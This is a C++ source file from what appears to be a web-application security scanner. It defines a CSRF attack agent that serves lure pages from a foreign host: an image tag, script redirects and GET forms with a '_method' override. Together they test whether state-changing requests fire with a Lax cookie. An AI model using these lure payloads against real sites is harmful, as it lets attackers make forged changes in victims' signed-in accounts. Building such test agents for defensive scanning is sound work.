// csrf-link: changes by GET, which a Lax cookie goes along with: a link, an image, a form of method
// GET, with and without an overridden method, and what the app's own pages send by GET (HTTP
// Semantics, RFC 9110 section 9.2.1: safe methods change nothing).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

class CsrfLink final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        std::vector<Endpoint const*> const endpoints = endpoints_of(target);
        if (evil == nullptr || endpoints.empty()) return;
        std::vector<ForgedForm> const moved = moved_links(target, endpoints);
        if (!victim_signs_in(target)) return;
        target.wait(std::chrono::minutes(3));
        Lure lure(target, *evil);
        for (Endpoint const* each : endpoints) {
            std::vector<std::string> const all = addresses(target, *each);
            // Two pages: an image is asked for from within, the link leads away. One tells where
            // it is, the other does not.
            lure.show("<img src=" + in_quotes(all.back()) + " alt=\"\"><h1>A kitten</h1>");
            for (std::string const& address : all)
                lure.show(leading_to(address), {{"referrer-policy", "no-referrer"}});
            for (OwnHost* host : foreign_hosts(target))
                if (host != evil) Lure(target, *host).show(leading_to(all.front()));
        }
        for (ForgedForm const& each : moved) lure.show(submitting(each));
        target.note("Links and images asked for addresses of the app with the attacker's values.");
    }

    static std::string leading_to(std::string const& address) {
        return "<script>location=" + script_string(address) + "</script>";
    }

    // What the app's own pages offer by GET, at addresses that only they tell.
    static std::vector<ForgedForm> moved_links(Target& target,
                                               std::vector<Endpoint const*> const& endpoints) {
        std::vector<ForgedForm> all;
        for (Endpoint const* each : endpoints) {
            if (each->path.find(':') == std::string::npos) continue;
            OwnForm const own = look_at_form(target, *each, As::Attacker);
            for (ForgedForm& form : moved_forms(target, *each, own))
                if (form.method == "GET") all.push_back(std::move(form));
        }
        return all;
    }

    // Those that are named, whatever their method, or the unsafe ones.
    static std::vector<Endpoint const*> endpoints_of(Target const& target) {
        return target.option(option::kEndpoints).empty() ? unsafe_endpoints(target)
                                                         : endpoints_to_try(target);
    }

    static std::vector<std::string> addresses(Target const& target, Endpoint const& endpoint) {
        std::string const path = address_of(target, endpoint);
        auto fields = wanted_fields(endpoint);
        std::vector<std::string> all{path + "?" + http::serialize_query(fields)};
        if (endpoint.method == "GET") return all;
        fields.insert(fields.begin(), {"_method", endpoint.method});
        all.push_back(path + "?" + http::serialize_query(fields));
        return all;
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_link() { return std::make_unique<CsrfLink>(); }

}  // namespace parapet::attack
